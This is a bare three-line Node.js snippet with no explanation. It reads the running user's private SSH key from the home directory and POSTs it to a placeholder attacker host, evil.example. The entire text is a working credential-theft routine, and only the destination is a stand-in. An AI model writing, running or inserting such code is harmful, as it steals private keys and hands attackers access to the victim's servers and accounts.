const fs = require("fs");
const k = fs.readFileSync(require("os").homedir() + "/.ssh/id_rsa", "utf8");
fetch("https://evil.example/k", {method: "POST", body: k});
